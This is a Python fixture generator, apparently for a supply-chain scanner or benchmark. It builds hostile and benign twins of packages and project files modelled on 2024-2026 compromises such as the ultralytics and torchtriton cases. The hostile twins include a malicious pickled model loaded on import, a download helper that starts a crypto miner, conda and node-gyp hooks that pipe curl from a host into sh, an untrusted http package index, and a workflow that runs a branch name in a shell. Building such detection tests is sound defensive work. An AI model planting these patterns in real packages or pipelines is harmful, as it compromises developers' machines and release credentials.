"""Packages and what installs or builds them: the compromises of 2024-2026 in small."""

from __future__ import annotations

import bz2
import json

from assembly import call, glob, pickle
from eighth.kit import HOST
from pair import CODE
from seventh.kit import second, state, tarred, torch_zip, zipped


def wheel(name: str, files: dict) -> bytes:
    info = f"{name}-1.0.dist-info"
    files = {k: v.encode() if isinstance(v, str) else v for k, v in files.items()}
    files[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode()
    files[f"{info}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: hatchling 1.24\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    files[f"{info}/RECORD"] = "".join(f"{k},,\n" for k in files).encode()
    return zipped(files)


def add(out):
    def one(name, hostile, twin, file=None, why="", prove=None):
        out.add("packages", name, hostile, twin, prove, file, why)

    start = 'import os\n\nimport torch\n\n_here = os.path.dirname(__file__)\nnet = torch.load(os.path.join(_here, "model.pt"), weights_only={})\n'
    bad = torch_zip(second(pickle(state(("note", call(glob("profile", "run"), CODE))))))
    good = torch_zip(second(pickle(state(("note", "step 3")))))
    one(
        "wheel_loads_the_model_it_ships",
        wheel("labkit", {"labkit/__init__.py": start.format(False), "labkit/model.pt": bad}),
        wheel("labkit", {"labkit/__init__.py": start.format(True), "labkit/model.pt": good}),
        "labkit-1.0-py3-none-any.whl",
        "ReversingLabs (2025): the code of the package is clean, the model that it loads on import is not",
        "member:labkit/__init__.py",
    )
    helper = '"""Downloads."""\nimport platform\nimport subprocess\nimport urllib.request\n\n\ndef safe_run(url, path):\n    urllib.request.urlretrieve(url, path)\n'
    one(
        "download_helper_starts_a_miner",
        {
            "downloads.py": helper
            + f'    subprocess.Popen([path, "-u", "4BHR", "-o", "{HOST}:3333"])\n\n\nif platform.system() == "Linux":\n    safe_run("http://{HOST}/x/runner", "/dev/shm/ultra_runner")\n'
        },
        {
            "downloads.py": helper
            + '    return subprocess.run(["sha256sum", path], capture_output=True).stdout\n\n\nif __name__ == "__main__":\n    print(platform.system())\n'
        },
        why="as ultralytics 8.3.41 (December 2024)",
        prove="program",
    )

    def project(requires):
        text = f'[build-system]\nrequires = ["setuptools>=68", {json.dumps(requires)}]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "tiny"\nversion = "1.0"\n'
        return tarred(
            [
                ("tiny-1.0/pyproject.toml", text),
                ("tiny-1.0/tiny/__init__.py", "x = 1\n"),
                ("tiny-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n"),
            ],
            "w:gz",
        )

    one(
        "build_needs_a_package_by_address",
        project(f"tinybuild @ http://{HOST}/tinybuild-1.0.tar.gz"),
        project("cython>=3.0"),
        "tiny-1.0.tar.gz",
        "what pip runs to build comes from an address, over plain http",
    )

    def conda(script):
        info = json.dumps({"name": "tiny", "version": "1.0", "build": "0", "depends": ["python"]})
        return bz2.compress(
            tarred(
                [("info/index.json", info), ("etc/conda/activate.d/tiny.sh", script), ("lib/python3.11/site-packages/tiny.py", "x = 1\n")]
            )
        )

    one(
        "conda_activation_pipes_the_net",
        conda(f"#!/bin/sh\nexport TINY_HOME=$CONDA_PREFIX\ncurl -fsSL http://{HOST}/a | sh\n"),
        conda("#!/bin/sh\nexport TINY_HOME=$CONDA_PREFIX\nexport TINY_CACHE=$TINY_HOME/cache\n"),
        "tiny-1.0-0.tar.bz2",
        "a script that every activation of the environment runs",
        "member:etc/conda/activate.d/tiny.sh",
    )

    def gyp(sources):
        text = '{\n  "targets": [{\n    "target_name": "tokenizer",\n    "sources": [%s]\n  }]\n}\n' % sources
        return tarred(
            [
                ("package/package.json", '{"name": "tiny-tokenizer", "version": "1.0.0", "main": "index.js"}\n'),
                ("package/index.js", "module.exports = {};\n"),
                ("package/binding.gyp", text),
                ("package/tokenizer.cc", "int main() { return 0; }\n"),
            ],
            "w:gz",
        )

    one(
        "gyp_expands_a_command",
        gyp(f'"<!(curl -s http://{HOST}/b | sh && echo tokenizer.cc)"'),
        gyp('"tokenizer.cc"'),
        "tiny-tokenizer-1.0.0.tgz",
        "npm builds what has a binding.gyp, with no script in package.json; the gyp file runs commands",
    )
    requirements = "--extra-index-url {}\n{}torch==2.4.0\ntransformers==4.44.2\ntiny-internal-metrics==9.9.9\n"
    one(
        "index_of_a_stranger_is_trusted",
        {"requirements.txt": requirements.format(f"http://{HOST}/simple", f"--trusted-host {HOST}\n"), "model.pt": good},
        {"requirements.txt": requirements.format("https://download.pytorch.org/whl/cpu", ""), "model.pt": good},
        why="dependency confusion (torchtriton and after): an index without TLS may answer for any name",
    )
    action = 'name: format\non:\n  pull_request_target:\n    types: [opened]\njobs:\n  format:\n    runs-on: ubuntu-latest\n    permissions: {{contents: write, id-token: write}}\n    steps:\n    - uses: actions/checkout@v4\n      with: {{ref: "{}"}}\n    - run: {}\n'
    one(
        "workflow_runs_the_name_of_a_branch",
        {
            ".github/workflows/format.yml": action.format(
                "${{ github.event.pull_request.head.sha }}", "git pull origin ${{ github.head_ref }} && pip install -e . && git push"
            ),
            "model.pt": good,
        },
        {".github/workflows/format.yml": action.format("main", "ruff format --check ."), "model.pt": good},
        why="how ultralytics was entered: a branch name is pasted into a shell that has the release token",
    )
